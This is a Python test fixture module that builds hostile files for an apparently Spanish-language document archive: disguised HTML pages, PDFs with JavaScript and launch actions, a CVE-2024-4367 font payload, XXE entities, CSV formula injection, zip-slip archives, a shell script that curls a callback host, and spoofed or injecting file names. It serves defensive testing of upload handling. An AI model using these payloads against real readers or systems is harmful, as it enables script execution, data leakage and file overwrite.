"""Files made to attack their reader: what they would run, whom they would call, and how they are called."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import docx
import openpyxl
import pikepdf
import pptx
from odf import draw, opendocument
from odf import text as odf_text
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.archive import recordings
from tests.archive.extraction import office_samples, samples

WORD = "tejocote"
"""Stands in all that is read."""
RUN = "window.__ran=1;alert(document.domain)"
MARKUP = f'"><script>{RUN}</script><img src=x onerror="{RUN}">'
"""Breaks out of an attribute, short enough for a title."""
RECORDING = "grabacion.wav"
WEB, ZIP, TEXT = "pero es una página web (HTML)", "Es un archivo comprimido (ZIP)", "pero contiene solo texto"
DAMAGED = "El archivo está dañado y no se pudo reparar"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file under its name. `refused` is what people are told where it doesn't come in, `quarantined` where it isn't
    opened; one of neither is shown, and `is_read` says whether it has pages."""

    name: str
    content: bytes
    refused: str = ""
    quarantined: str = ""
    is_read: bool = True

    @property
    def is_shown(self) -> bool:
        return not self.refused


def page(out: str) -> str:
    """A web page that tries all that a web page can do by itself; `out` is whom it calls."""
    return (
        f'<!doctype html><html><head><base href="{out}/base/"><title>{WORD}</title>'
        f'<meta http-equiv="refresh" content="0;url={out}/refresh"><link rel="stylesheet" href="{out}/sheet.css">'
        f"<style>@import url({out}/import.css);body{{background:url({out}/background.png)}}</style>"
        f'<script>{RUN};fetch("{out}/fetch")</script><script src="{out}/script.js"></script></head>'
        f'<body onload="{RUN}"><p>Los vecinos venden {WORD} &lt;script&gt;{RUN}&lt;/script&gt; en el mercado.</p>'
        f'<img src="{out}/pixel.gif" onerror="{RUN}"><iframe src="{out}/frame"></iframe><object data="{out}/object">'
        f'</object><embed src="{out}/embed"><video src="{out}/video" autoplay></video>'
        f'<svg onload="{RUN}"><use href="{out}/use.svg#x"/></svg><a href="javascript:{RUN}">enlace</a>'
        f'<form action="{out}/form"><input autofocus onfocus="{RUN}"></form></body></html>'
    )


def drawing(out: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{out}/entity">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
        f'<image href="{out}/image.png"/><text>&e; {WORD}</text></svg>'
    ).encode()


def every(out: str, folder: Path) -> Iterator[Hostile]:
    """All of them. `out` is where they call, `folder` is a place to make them in."""
    yield from _in_disguise(out)
    yield from _texts(out, folder)
    yield from _pdfs(out, folder)
    yield from _office(out, folder)
    yield from _pictures(folder)
    yield from _containers(out, folder)
    yield from _names(folder)


def _in_disguise(out: str) -> Iterator[Hostile]:
    yield Hostile("dibujo.png", drawing(out), refused=TEXT)
    yield Hostile("foto.jpg", page(out).encode(), refused=WEB)
    yield Hostile("acta.pdf", b"\xef\xbb\xbf \n" + page(out).encode(), refused=WEB)
    yield Hostile("notas.txt", b"\n" + page(out).encode(), refused=WEB)
    yield Hostile("tabla.csv", b"\t" + page(out).upper().encode(), refused=WEB)
    yield Hostile("programa.pdf", b"#!/bin/sh\ncurl " + out.encode(), refused="Es un programa")
    yield Hostile("dibujo.svg", drawing(out) + b"\n", is_read=False)
    yield Hostile("pagina.xhtml", page(out).encode() + b"\n", is_read=False)
    script = f'GIF89a/*{WORD}*/=1;{RUN};fetch("{out}/gif")'.encode()
    yield Hostile("poliglota.gif", script, quarantined=DAMAGED)


def _texts(out: str, folder: Path) -> Iterator[Hostile]:
    yield Hostile("pagina.html", page(out).encode() + b"\n\n")
    yield Hostile("pagina en utf-16.html", page(out).encode("utf-16"))
    yield Hostile("carta.txt", f"Se compra {WORD}.\n\n{page(out)}\n\n{{{{ 7*7 }}}} {{% debug %}} {MARKUP}".encode())
    formulas = (
        f'Concepto,Monto\n{WORD},"=cmd|\' /C calc\'!A0"\n"=HYPERLINK(""{out}/link"",""ver"")",+1\n'
        f'"=IMPORTXML(""{out}/xml"",""//a"")",@SUM(1)\n"{MARKUP.replace(chr(34), chr(34) * 2)}",-1\n'
    )
    yield Hostile("formulas.csv", formulas.encode())
    mail = EmailMessage()
    mail["From"], mail["To"] = f'"<script>{RUN}</script>" <archivo@ejemplo.mx>', "Cabildo <cabildo@ejemplo.mx>"
    mail["Subject"] = f"Venta de {WORD} {MARKUP}"
    mail.set_content(f"Venta de {WORD}.\n\n{MARKUP}")
    mail.add_alternative(page(out), subtype="html")
    mail.add_attachment(page(out).encode(), maintype="text", subtype="html", filename="../../anexo.html")
    yield Hostile("correo.eml", bytes(mail))
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "archivo@ejemplo.mx", WORD
    mail.set_content(page(out), subtype="html")
    yield Hostile("correo solo html.eml", bytes(mail))
    fields = (
        rf'{{\field{{\*\fldinst INCLUDEPICTURE "{out}/picture.png" \\d}}{{\fldrslt {WORD}}}}}'
        rf'{{\field{{\*\fldinst HYPERLINK "javascript:{RUN}"}}{{\fldrslt enlace}}}}'
        r"{\object\objemb\objupdate{\*\objclass Package}{\*\objdata 0105000002000000}}"
        rf"{{\*\template {out}/template.dot}} <script>{RUN}</script>\par"
    )
    yield Hostile("oficio.rtf", office_samples.rich(folder / "oficio.rtf", fields).read_bytes())


def _pdfs(out: str, folder: Path) -> Iterator[Hostile]:
    script = Dictionary(S=Name.JavaScript, JS=f'app.alert(1);app.launchURL("{out}/pdf-script",true);')
    opened: dict[str, Callable[[pikepdf.Pdf], None]] = {
        "guion.pdf": lambda made: _set(made, "OpenAction", script),
        "lanza.pdf": lambda made: _set(
            made, "OpenAction", Dictionary(S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc"))
        ),
        "va a otro.pdf": lambda made: _set(
            made,
            "OpenAction",
            Dictionary(S=Name.GoToR, F=Dictionary(FS=Name.URL, F=f"{out}/remote.pdf"), D=Array([0])),
        ),
        "envia.pdf": lambda made: _set(
            made, "AA", Dictionary(WC=Dictionary(S=Name.SubmitForm, F=f"{out}/submit", Fields=Array([])))
        ),
        "enlaces.pdf": lambda made: _link(made, out),
        "anexo.pdf": lambda made: _attach(made, out),
        "formulario.pdf": lambda made: _form(made, out),
        "metadatos.pdf": lambda made: _metadata(made, out),
        "tipo de letra.pdf": _font,
    }
    for name, attack in opened.items():
        yield Hostile(name, _pdf(folder, name, attack))
    polyglot = _pdf(folder, "poliglota.pdf", lambda made: None)
    yield Hostile("poliglota.pdf", polyglot + page(out).encode())


def _pdf(folder: Path, name: str, attack: Callable[[pikepdf.Pdf], None]) -> bytes:
    lines = [f"Se compra {WORD} en el mercado: {name}.", f"<script>{RUN}</script>", MARKUP, f"javascript:{RUN}"]
    target = folder / f"hecho-{name}"
    with pikepdf.open(samples.pdf(folder / name, [lines, lines], outline=[MARKUP, WORD])) as made:
        attack(made)
        made.save(target)
    return target.read_bytes()


def _set(made: pikepdf.Pdf, name: str, value: pikepdf.Object) -> None:
    made.Root[f"/{name}"] = value


def _attach(made: pikepdf.Pdf, out: str) -> None:
    name = "../../../tmp/anexo.html"
    made.attachments[name] = pikepdf.AttachedFileSpec(
        made,
        page(out).encode(),
        description=MARKUP,
        filename=name,
        mime_type="text/html",
        creation_date="",
        mod_date="",
    )


def _link(made: pikepdf.Pdf, out: str) -> None:
    made.pages[0].Annots = Array(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 612, 792], A=Dictionary(S=Name.URI, URI=target))
        for target in (f"{out}/link", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>")
    )


def _form(made: pikepdf.Pdf, out: str) -> None:
    content = f'<xdp xmlns="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">{RUN}</script>'
    made.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=Stream(made, f"{content}<a href='{out}/xfa'/></xdp>".encode())
    )


def _metadata(made: pikepdf.Pdf, out: str) -> None:
    entity = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{out}/xmp">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;{MARKUP}</x:xmpmeta>'
    )
    made.Root.Metadata = Stream(made, entity.encode(), Type=Name.Metadata, Subtype=Name.XML)
    made.docinfo["/Title"] = MARKUP


def _font(made: pikepdf.Pdf) -> None:
    """A matrix of letters that is a script (CVE-2024-4367)."""
    for font in made.pages[0].Resources.Font.values():
        font.FontMatrix = Array([1, 0, 0, 1, 0, pikepdf.String(f"0); {RUN} //")])


def _office(out: str, folder: Path) -> Iterator[Hostile]:
    yield Hostile("oficio.docx", _word(folder / "oficio.docx", out))
    yield Hostile("oficio.odt", _open_text(folder / "oficio.odt", out))
    yield Hostile("cuentas.xlsx", _workbook(folder / "cuentas.xlsx", out))
    yield Hostile("avances.pptx", _slides(folder / "avances.pptx", out))


def _word(path: Path, out: str) -> bytes:
    document = docx.Document()
    document.add_heading(f"{WORD} {MARKUP}", 1)
    document.add_paragraph(f"Se compra {WORD}: {page(out)}")
    document.core_properties.title = MARKUP
    for kind, target in (
        ("hyperlink", f"javascript:{RUN}"),
        ("image", f"{out}/image.png"),
        ("frame", f"{out}/frame"),
    ):
        document.part.relate_to(target, f"{_OFFICE}/{kind}", is_external=True)
    document.save(str(path))
    template = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="rId1" Type="{_OFFICE}/attachedTemplate" '
        f'Target="{out}/template.dotm" TargetMode="External"/></Relationships>'
    )
    attacking = path.with_name("con plantilla.docx")
    return office_samples.repacked(path, attacking, {"word/_rels/settings.xml.rels": template.encode()}).read_bytes()


def _open_text(path: Path, out: str) -> bytes:
    document = opendocument.OpenDocumentText()
    paragraph = odf_text.P(text=f"Se compra {WORD}: {MARKUP}")
    paragraph.addElement(odf_text.A(href=f"javascript:{RUN}", text="enlace"))
    frame = draw.Frame(width="5cm", height="5cm")
    frame.addElement(draw.Image(href=f"{out}/image.png"))
    paragraph.addElement(frame)
    document.text.addElement(paragraph)
    document.save(str(path))
    return path.read_bytes()


def _workbook(path: Path, out: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "<b onclick=1>"
    sheet.append([WORD, MARKUP, page(out)])
    sheet.append([f'=HYPERLINK("{out}/link","ver")', f'=WEBSERVICE("{out}/service")', "=cmd|' /C calc'!A0"])
    sheet["A1"].hyperlink = f"javascript:{RUN}"
    book.save(path)
    return path.read_bytes()


def _slides(path: Path, out: str) -> bytes:
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = f"{WORD} {MARKUP}"
    slide.placeholders[1].text = f"Se compra {WORD} {page(out)}"
    slide.part.relate_to(f"javascript:{RUN}", f"{_OFFICE}/hyperlink", is_external=True)
    slide.part.relate_to(f"{out}/image.png", f"{_OFFICE}/image", is_external=True)
    show.save(str(path))
    return path.read_bytes()


def _pictures(folder: Path) -> Iterator[Hostile]:
    said = PngInfo()
    said.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{MARKUP}</x:xmpmeta>")
    said.add_text("Comment", MARKUP)
    blank = Image.new("RGB", (120, 80), "white")
    blank.save(folder / "xmp.png", pnginfo=said)
    yield Hostile("xmp.png", (folder / "xmp.png").read_bytes())
    exif = Image.Exif()
    exif[0x010E], exif[0x013B] = MARKUP, f"<script>{RUN}</script>"
    stream = io.BytesIO()
    blank.save(stream, "JPEG", exif=exif, comment=MARKUP.encode())
    yield Hostile("exif.jpg", stream.getvalue() + f"<script>{RUN}</script>".encode())
    yield Hostile(RECORDING, recordings.silence(65) + MARKUP.encode(), is_read=False)


def _containers(out: str, folder: Path) -> Iterator[Hostile]:
    slip = {
        "../../../../../../tmp/acervo-resbalon.html": page(out).encode(),
        "/tmp/acervo-absoluto.html": page(out).encode(),
        "..\\..\\acervo-resbalon.html": page(out).encode(),
    }
    yield Hostile("anexos.docx", office_samples.zipped(slip), refused=ZIP)
    sound = office_samples.word(folder / "sano.docx")
    resaved = office_samples.repacked(sound, folder / "resbala.docx", slip | {"word/nota.xml": WORD.encode()})
    yield Hostile("resbala.docx", resaved.read_bytes())
    body = (
        f'<!DOCTYPE w [<!ENTITY e SYSTEM "{out}/entity">]><w:document xmlns:w="http://schemas.openxmlformats.org/'
        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>'
    )
    entity = office_samples.repacked(sound, folder / "entidad.docx", {"word/document.xml": body.encode()})
    yield Hostile("entidad.docx", entity.read_bytes(), quarantined=DAMAGED)


NAMES = (
    "acta\u202efdp.exe.pdf",
    "acta\u2066\u2069\u200f\u200e.pdf",
    "acta\r\nX-Inyectado: 1\r\n\r\n.pdf",
    '"; filename="malo.html".pdf',
    "con.pdf",
    "acta;%0d%0aX-Inyectado%3a1;.pdf",
    f"<img src=x onerror={RUN}>.pdf",
    "..%2f..%2fetc%2fpasswd.pdf",
    "...pdf",
    f"{'largo ' * 40}.pdf",
    "acta'*=utf-8''malo.html.pdf",
)


def _names(folder: Path) -> Iterator[Hostile]:
    for number, name in enumerate(NAMES):
        made = samples.pdf(folder / f"nombre-{number}.pdf", [[f"Se compra {WORD} bajo el nombre {number}."]])
        yield Hostile(name, made.read_bytes())


CAPTIONS = recordings.said(
    f"<v <script>{RUN}</script>>Se compra {WORD}", f"<c.x onclick={RUN}>{MARKUP}</c>", f"&lt;script&gt;{RUN}"
)
